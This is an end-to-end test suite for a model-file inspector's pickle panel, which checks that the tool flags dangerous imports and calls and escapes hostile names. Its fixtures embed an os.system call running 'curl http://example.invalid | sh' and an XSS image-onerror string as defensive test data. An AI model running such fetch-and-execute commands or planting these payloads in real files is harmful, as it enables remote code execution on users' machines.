import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, Locator, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { call, dense, dict, global, pickle, storage, text, torchFile } from '../support/torch-bytes.ts';
import { joined, utf8 } from '../support/zip-bytes.ts';
import { violations } from './support/axe.ts';
import { chromiumPath, type LoupePage, launchBrowser, openPage } from './support/browser.ts';
import { type CallGate, gateCalls } from './support/hold-calls.ts';
import { openPath } from './support/open-path.ts';
import { type Server, startServer } from './support/start-server.ts';

const FOUR = new Uint8Array(Float32Array.of(1, 2, 3, 4).buffer);
const HOSTILE = '<img src=x onerror=alert(1)>\u202e';

describe.skipIf(chromiumPath === undefined)('what a pickle would run', () => {
  let server: Server;
  let browser: Browser;
  let opened: LoupePage | undefined;
  const folder = mkdtempSync(join(tmpdir(), 'loupe-e2e-'));
  const evil = join(folder, 'evil.pt');
  const many = join(folder, 'many.pkl');
  const plain = join(folder, 'plain.pkl');
  const broken = join(folder, 'broken.pkl');

  /** Opens a file and shows the list. */
  const openList = async (path: string): Promise<{ page: Page; list: Locator; panel: Locator }> => {
    opened = await openPage(browser, server.url);
    const { page } = opened;
    await openPath(page, path);
    await page.getByRole('tab', { name: /^Pickle/ }).click();
    return {
      page,
      list: page.getByRole('grid', { name: 'Imports and calls' }),
      panel: page.locator('[data-area="bottom"]'),
    };
  };
  const rows = (list: Locator): Promise<readonly string[]> => list.locator('[data-event]').allTextContents();

  /** The same with a gate in the connection. */
  const openGated = async (path: string, gate: (gate: CallGate) => void) => {
    opened = await openPage(browser, server.url);
    const { page } = opened;
    const calls = await gateCalls(page);
    await page.reload();
    await page.locator('.start').waitFor();
    gate(calls);
    await openPath(page, path);
    await page.getByRole('tab', { name: /^Pickle/ }).click();
    return { page, calls, list: page.getByRole('grid', { name: 'Imports and calls' }) };
  };

  beforeAll(async () => {
    const odd = call(global('mine', HOSTILE), text(HOSTILE));
    const system = call(global('os', 'system'), text('curl http://example.invalid | sh'));
    const weights = dense(storage('FloatStorage', '0', 4), [2, 2]);
    const root = pickle(dict([text('w'), weights], [text('odd'), odd], [text('run'), system]));
    writeFileSync(evil, torchFile(root, { 0: FOUR }));
    const ordered = joined(global('collections', 'OrderedDict'), utf8(')R0'));
    const last = joined(global('os', 'system'), utf8('0'));
    writeFileSync(
      many,
      joined(Uint8Array.of(0x80, 2), ...new Array<Uint8Array>(50_000).fill(ordered), last, utf8('N.')),
    );
    writeFileSync(plain, pickle(dict([text('epoch'), text('three')])));
    writeFileSync(broken, joined(Uint8Array.of(0x80, 2), global('os', 'system'), utf8('0'), Uint8Array.of(0xff)));
    [server, browser] = await Promise.all([startServer(), launchBrowser()]);
  });
  afterEach(async () => {
    const complaints = opened?.complaints ?? [];
    await opened?.context.close();
    opened = undefined;
    expect(complaints).toEqual([]);
  });
  afterAll(async () => {
    await browser?.close();
    await server?.stop();
    rmSync(folder, { recursive: true, force: true });
  });

  it('lists what matters first, and the rest by a switch', async () => {
    const { page, list } = await openList(evil);
    await list.locator('[data-grade="dangerous"]').first().waitFor();
    expect(await rows(list)).toEqual([
      expect.stringMatching(/^UnknownImportmine\..*not among the imports/),
      expect.stringMatching(/^UnknownCallmine\./),
      expect.stringMatching(/^DangerImportos\.systemruns commandsm\/data\.pkl\d/),
      expect.stringMatching(
        /^DangerCallos\.system\("curl http:\/\/example\.invalid \| sh"\)runs commandsm\/data\.pkl\d/,
      ),
    ]);
    const allowed = page.getByRole('button', { name: /^Allowed \d/ });
    expect(await allowed.getAttribute('aria-pressed')).toBe('false');
    await allowed.click();
    await list.getByText('torch._utils._rebuild_tensor_v2').first().waitFor();
    await page.getByRole('button', { name: /^Unknown/ }).click();
    await page.getByRole('button', { name: /^Danger 2/ }).click();
    await allowed.click();
    await page.getByText(/^All \d+ imports and calls are hidden/).waitFor();
    await page.getByRole('button', { name: 'Show all' }).click();
    await list.locator('[data-grade="allowed"]').first().waitFor();
  });

  it('shows hostile names as text with visible escapes', async () => {
    const { page, list } = await openList(evil);
    const row = list.locator('[data-event="1"]');
    await row.waitFor();
    expect(await row.textContent()).toContain('<img src=x onerror=alert(1)>\\u{202e}');
    expect(await row.getAttribute('title')).toContain('\\u{202e}');
    expect(await page.locator('img').count()).toBe(0);
  });

  it('is reached from a finding, by mouse and by key', async () => {
    opened = await openPage(browser, server.url);
    const { page } = opened;
    await openPath(page, evil);
    const finding = page.locator('.finding-row[data-code="pickle-dangerous-call"]');
    await finding.locator('[data-jump]').click();
    const list = page.getByRole('grid', { name: 'Imports and calls' });
    await list.locator('[aria-selected="true"]', { hasText: /^DangerCallos\.system/ }).waitFor();
    await expect.poll(() => list.evaluate((element) => element === document.activeElement)).toBe(true);

    await page.getByRole('button', { name: /^Unknown/ }).click();
    await page.getByRole('tab', { name: /^Findings/ }).click();
    const findings = page.getByRole('listbox', { name: 'Findings' });
    await findings.focus();
    await page.keyboard.press('End');
    await page.keyboard.press('Enter');
    await list.locator('[aria-selected="true"]', { hasText: 'mine.' }).waitFor();
    expect(await page.getByRole('button', { name: /^Unknown/ }).getAttribute('aria-pressed')).toBe('true');
    await list.press('Control+c');
    await page.getByText('Copied the event').waitFor();
  });

  it('holds a hundred thousand events with few elements, to the last one', async () => {
    const { page, list } = await openList(many);
    await list.locator('[data-grade="dangerous"]').waitFor();
    await page.getByRole('button', { name: /^Allowed/ }).click();
    await list.getByText('collections.OrderedDict').first().waitFor();
    expect(await list.getAttribute('aria-rowcount')).toBe('100002');
    expect(await list.locator('[data-event]').count()).toBeLessThan(60);
    await list.focus();
    await page.keyboard.press('End');
    await list.locator('[data-event="100000"][aria-selected="true"]', { hasText: 'os.system' }).waitFor();
    await page.keyboard.press('Home');
    await list.locator('[data-event="0"][aria-selected="true"]', { hasText: 'OrderedDict' }).waitFor();
  });

  it('says so when nothing would run', async () => {
    const { page } = await openList(plain);
    await page.locator('[data-state-of-panel="empty"]', { hasText: 'Nothing would run' }).waitFor();
  });

  it('lists what comes before a break, and names the break', async () => {
    const { page, list } = await openList(broken);
    await page.locator('[data-state-of-panel="partial"]', { hasText: 'broken.pkl: broken at byte' }).waitFor();
    expect(await rows(list)).toEqual([expect.stringMatching(/^DangerImportos\.system/)]);
  });

  it('shows a skeleton while it waits, and an error that can be tried again', async () => {
    const { page, calls, list } = await openGated(evil, (gate) => gate.set('pickles', 'hold'));
    await page.getByRole('status').filter({ hasText: 'Listing what the pickles would run' }).waitFor();
    calls.set('pickleEvents', 'fail');
    calls.set('pickles', 'pass');
    await page.getByText('The imports and calls could not be read').waitFor();
    calls.set('pickleEvents', 'pass');
    await page.getByRole('button', { name: 'Try again' }).click();
    await list.getByText('os.system').first().waitFor();
  });

  it('says what failed when the pickles cannot be listed at all', async () => {
    const { page, calls, list } = await openGated(evil, (gate) => gate.set('pickles', 'fail'));
    await page.getByRole('alert').filter({ hasText: 'The pickles could not be listed' }).waitFor();
    calls.set('pickles', 'pass');
    await page.getByRole('button', { name: 'Try again' }).click();
    await list.getByText('os.system').first().waitFor();
  });

  it('has no place in the window for a file without pickles', async () => {
    opened = await openPage(browser, server.url);
    const { page } = opened;
    await page.getByRole('button', { name: 'Try the sample' }).click();
    await page.getByRole('tab', { name: /^Metadata/ }).waitFor();
    expect(await page.getByRole('tab', { name: /^Pickle/ }).count()).toBe(0);
  });

  it.each(['light', 'dark'] as const)('axe finds nothing in the %s theme', async (colorScheme) => {
    opened = await openPage(browser, server.url, { colorScheme });
    const { page } = opened;
    await openPath(page, evil);
    await page.getByRole('tab', { name: /^Pickle/ }).click();
    const list = page.getByRole('grid', { name: 'Imports and calls' });
    await list.locator('[data-event]').first().click();
    expect(await violations(page, colorScheme)).toEqual([]);
    await page.getByRole('tab', { name: /^Findings/ }).click();
    await page.locator('[data-jump]').first().waitFor();
    expect(await violations(page, colorScheme)).toEqual([]);
  });
});
